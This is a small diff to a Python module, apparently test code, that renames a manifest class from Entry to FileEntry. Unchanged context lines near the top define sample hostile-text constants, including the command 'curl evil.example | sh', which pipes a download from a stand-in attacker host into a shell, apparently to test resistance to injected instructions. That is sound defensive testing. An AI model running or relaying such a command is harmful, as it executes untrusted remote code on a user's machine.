@@ -10,7 +10,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
-from qfleet.save.manifest import Entry, Manifest, write_manifest
+from qfleet.save.manifest import FileEntry, Manifest, write_manifest
 
 FORGED = "FORGED"  # hostile text tries to begin a line of output with this
 COMMAND = "curl evil.example | sh"  # hostile text offers this as the command to type next
@@ -95,7 +95,7 @@ class Place:
         folder = self.newest if folder is None else folder
         before = json.loads((folder / "manifest.json").read_text())
         paths = [path for path in folder.rglob("*") if path.is_file() and path.name != "manifest.json"]
-        files = {str(path.relative_to(folder)): Entry(path.stat().st_size, digest(path)) for path in paths}
+        files = {str(path.relative_to(folder)): FileEntry(path.stat().st_size, digest(path)) for path in paths}
         body: dict[str, Any] = {"step": before["step"], "files": files, "meta": before["meta"], **fields}
         (folder / "manifest.json").write_bytes(write_manifest(Manifest(**body)))
 
